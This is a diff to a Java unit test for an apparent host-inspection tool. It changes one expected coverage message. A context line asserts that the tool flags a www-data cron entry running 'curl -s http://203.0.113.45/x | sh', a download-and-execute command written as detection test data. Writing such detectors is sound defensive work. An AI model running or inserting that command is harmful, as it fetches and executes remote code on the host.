@@ -124,7 +124,7 @@ class HostInspectorTest {
     InspectionResult r = inspect(root, InspectionContext.Options.once());
     Finding cron = find(r, FindingKind.CRON_PERSISTENCE, "cron:/var/spool/cron/crontabs/www-data:1");
     assertThat(en(cron)).contains("it downloads code and runs it: curl -s http://203.0.113.45/x | sh");
-    assertThat(r.covered()).anyMatch(c -> c.what().en().startsWith("no proc directory"));
+    assertThat(r.covered()).anyMatch(c -> c.what().en().startsWith("no processes under"));
     assertThat(r.gaps()).isEmpty();
   }
 
